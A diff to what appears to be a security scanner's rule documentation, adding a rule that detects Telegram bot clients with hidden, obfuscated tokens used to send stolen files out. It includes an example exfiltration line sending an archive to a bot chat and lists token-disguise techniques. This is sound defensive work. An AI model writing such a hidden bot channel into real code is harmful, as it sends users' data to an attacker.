@@ -119,6 +119,16 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).',
   },
   {
+    id: 'hardcoded-bot-channel',
+    name: "The author's bot channel",
+    family: 'secrets',
+    severity: 'high',
+    catches:
+      "A Telegram bot client (python-telegram-bot, pyTelegramBotAPI, aiogram) built with a token written into the package, however it is disguised (folded from chr() codes, joined pieces, decoded constants), that sends messages or files: the author's own channel, the way stealers deliver what they take. Critical in code that runs at install, start-up or import.",
+    example: 'Bot(token=d([55, 54, 52, ...])).send_document(chat_id=CHAT, document=archive)',
+    falsePositives: "Private bots whose owner publishes their own token (the token is then everyone's).",
+  },
+  {
     id: 'hardcoded-secret',
     name: 'Hard-coded credential',
     family: 'secrets',
